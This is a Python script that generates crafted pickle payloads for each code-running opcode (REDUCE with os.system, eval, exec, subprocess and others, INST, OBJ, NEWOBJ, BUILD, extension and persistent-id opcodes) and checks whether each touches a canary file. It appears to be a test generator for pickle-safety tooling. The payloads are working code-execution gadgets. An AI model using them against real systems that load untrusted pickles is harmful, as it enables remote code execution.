"""Makes pickles that run code in Python, one or more for each opcode that can, and shows that they do.

Prints a JSON list of {"name", "pickle" (hexadecimal), "runs"}. Each pickle creates the file CANARY (the only argument) when
it is loaded; `runs` says that it did so here. The attack is a value of a dict with `msg`, as in a log record.
"""
import copyreg
import io
import json
import os
import pickle
import struct
import sys
import types

canary = sys.argv[1]
command = "touch " + canary


def touch(*_):
    open(canary, "w").close()


class Made:
    def __new__(cls, *_, **__):
        touch()
        return object.__new__(cls)


class Quiet:
    """Harmless until something is done to it."""

    def __setstate__(self, state):
        touch()

    append = extend = add = update = __setitem__ = touch


class Import:
    """A module that runs code when it is looked into: what an import of a real one does."""

    def __getattr__(self, name):
        touch()
        return int


module = types.ModuleType("canary_module")
module.touch, module.Made, module.Quiet = touch, Made, Quiet
module.__getattr__ = Import().__getattr__
sys.modules["canary_module"] = module
copyreg.add_extension("canary_module", "Looked", 7)
copyreg.add_extension("canary_module", "Looked2", 0x1234)
copyreg.add_extension("canary_module", "Looked4", 0x12345678)


class Unpickler(pickle.Unpickler):
    def persistent_load(self, name):
        touch()


class Buffers:
    def __iter__(self):
        return self

    def __next__(self):
        touch()
        return b""


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


T, E = text(command), text("open(%r, 'w').close()" % canary)
quiet = b"ccanary_module\nQuiet\n)R"
attacks = {
    "GLOBAL import": b"ccanary_module\nlooked_for\n",
    "STACK_GLOBAL import": text("canary_module") + text("looked_for") + b"\x93",
    "REDUCE os.system": b"cos\nsystem\n" + T + b"\x85R",
    "REDUCE posix.system": b"cposix\nsystem\n(" + T + b"tR",
    "REDUCE eval": b"c__builtin__\neval\n" + E + b"\x85R",
    "REDUCE exec": b"cbuiltins\nexec\n" + E + b"\x85R",
    "REDUCE open": b"cbuiltins\nopen\n" + text(canary) + text("w") + b"\x86R",
    "REDUCE Popen": b"csubprocess\ncheck_call\n(" + b"(" + text("touch") + text(canary) + b"l" + b"tR",
    "REDUCE STACK_GLOBAL": text("os") + text("system") + b"\x93" + T + b"\x85R",
    "REDUCE map": b"cbuiltins\nlist\ncbuiltins\nmap\ncos\nsystem\n(" + T + b"l\x86R\x85R",
    "REDUCE reconstructor": b"ccopy_reg\n_reconstructor\n(ccanary_module\nMade\nccanary_module\nMade\nNtR",
    "REDUCE getattr": b"cbuiltins\ngetattr\ncos\nO_RDONLY\n0cbuiltins\n__import__\n" + text("os") + b"\x85R"
    + text("system") + b"\x86R" + T + b"\x85R",
    "INST": b"(" + T + b"ios\nsystem\n",
    "OBJ": b"(cos\nsystem\n" + T + b"o",
    "NEWOBJ": b"ccanary_module\nMade\n)\x81",
    "NEWOBJ_EX": b"ccanary_module\nMade\n)}\x92",
    "BUILD": quiet + b"}b",
    "APPEND": quiet + b"Na",
    "APPENDS": quiet + b"(Ne",
    "SETITEM": quiet + b"NNs",
    "SETITEMS": quiet + b"(NNu",
    "ADDITEMS": quiet + b"(N\x90",
    "EXT1": b"\x82\x07",
    "EXT2": b"\x83\x34\x12",
    "EXT4": b"\x84\x78\x56\x34\x12",
    "PERSID": b"Pname\n",
    "BINPERSID": b"NQ",
    "NEXT_BUFFER": b"\x97",
    "READONLY_BUFFER": b"\x97\x98",
}

result = []
for name, attack in attacks.items():
    data = b"\x80\x02}(" + text("first") + text("data") + text("attack") + attack + text("msg") + text("survives") + b"u."
    try:
        Unpickler(io.BytesIO(data), buffers=Buffers()).load()
    except Exception as error:
        print(name, repr(error), file=sys.stderr)
    runs = os.path.exists(canary)
    if runs:
        os.unlink(canary)
    result.append({"name": name, "pickle": data.hex(), "runs": runs})

import pickletools
opcodes = {opcode.name: ord(opcode.code) for opcode in pickletools.opcodes}
print(json.dumps({"attacks": result, "opcodes": opcodes}))
